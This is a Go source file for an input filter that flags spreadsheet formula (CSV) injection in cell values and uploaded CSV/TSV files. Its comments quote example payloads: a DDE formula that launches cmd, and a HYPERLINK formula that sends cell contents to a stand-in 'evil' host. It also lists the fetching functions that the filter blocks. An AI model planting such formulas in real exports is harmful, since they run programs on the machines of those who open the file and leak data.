package filter

import (
	"regexp"
	"strings"
)

// Spreadsheet formula injection (CSV injection). A value that starts with
// =, +, - or @ is a formula to Excel, LibreOffice and Google Sheets when
// an export or an import puts it in a cell: a DDE call runs a program on
// the machine of whoever opens the file (=cmd|' /C calc'!A0), and the
// functions that fetch a URL carry the sheet's other cells to the
// attacker's server (=HYPERLINK("http://evil/?"&A1), IMPORTXML, WEBSERVICE).
// Formulas that only compute (=SUM(A1:A3)) and everything else that starts
// with those signs (+1 555 0100, -5, @alice) are not matched.

// formulaInjection reports a cell value (v, decoded) that is such a
// formula.
func formulaInjection(v string) bool {
	// Leading separators too (;=cmd|…): a value that ends the cell
	// before it starts the formula, in a semicolon or tab dialect.
	t := strings.TrimLeft(v, " \t\r\n\"';,|")
	if t == "" || strings.IndexByte("=+-@", t[0]) < 0 {
		return false
	}
	t = strings.TrimLeft(t, "=+-@ ")
	l := t[:min(len(t), 512)] // searched without regard to case
	// DDE: a program, a pipe, a quoted argument, then the "!" of a
	// cell reference (cmd|' /C calc'!A0, msexcel|'…'!…).
	if strings.IndexByte(l, '|') > 0 && reDDE.MatchString(l) {
		return true
	}
	if strings.IndexByte(l, '(') < 0 && !containsFold(l, "ddeauto") {
		return false
	}
	for _, f := range formulaFetchers {
		if i := indexFold(l, f); i >= 0 && (i == 0 || !isWordByte(l[i-1]|0x20) && l[i-1] != '.') {
			return true
		}
	}
	return false
}

// reDDE: a DDE call, a program, a pipe, a quoted argument and the "!" of
// a cell reference (cmd|' /C calc'!A0, msexcel|'\..\..\windows\system32\cmd'!A1).
var reDDE = regexp.MustCompile(`[\w.\\-]{1,40}\s*\|\s*'[^']{0,200}'\s*!`)

// formulaFetchers are the spreadsheet functions that reach outside the
// sheet or run a program, with their opening parenthesis.
var formulaFetchers = []string{"hyperlink(", "importxml(", "importdata(", "importhtml(", "importfeed(", "importrange(", "webservice(", "image(\"http", "dde(", "ddeauto", "call(\"", "register(\""}

// csvFormulaFile: an uploaded CSV or TSV file (by name or type) with a
// cell that is a formula injection.
func csvFormulaFile(name, ctype, content string) bool {
	ext := name[strings.LastIndexByte(name, '.')+1:]
	if ext != "csv" && ext != "tsv" && !strings.HasPrefix(ctype, "text/csv") && !strings.HasPrefix(ctype, "text/tab-separated-values") {
		return false
	}
	header, _, _ := strings.Cut(content, "\n")
	sep := byte(',')
	if strings.Count(header, ";") > strings.Count(header, ",") {
		sep = ';'
	}
	if strings.Count(header, "\t") > strings.Count(header, string(sep)) {
		sep = '\t'
	}
	for rest := content; rest != ""; {
		line, tail, _ := strings.Cut(rest, "\n")
		rest = tail
		for line != "" {
			var cell string
			cell, line = csvCell(line, sep)
			if formulaInjection(cell) {
				return true
			}
		}
	}
	return false
}

// csvCell splits the first cell off line (RFC 4180: a quoted cell may
// hold the separator, "" is a quote) and returns it unquoted, and the
// rest after its separator.
func csvCell(line string, sep byte) (string, string) {
	if line == "" || line[0] != '"' {
		cell, rest, _ := strings.Cut(line, string(sep))
		return cell, rest
	}
	var b strings.Builder
	for i := 1; i < len(line); i++ {
		if line[i] != '"' {
			b.WriteByte(line[i])
			continue
		}
		if i+1 < len(line) && line[i+1] == '"' {
			b.WriteByte('"')
			i++
			continue
		}
		rest := line[i+1:]
		if j := strings.IndexByte(rest, sep); j >= 0 {
			return b.String(), rest[j+1:]
		}
		return b.String(), ""
	}
	return b.String(), ""
}
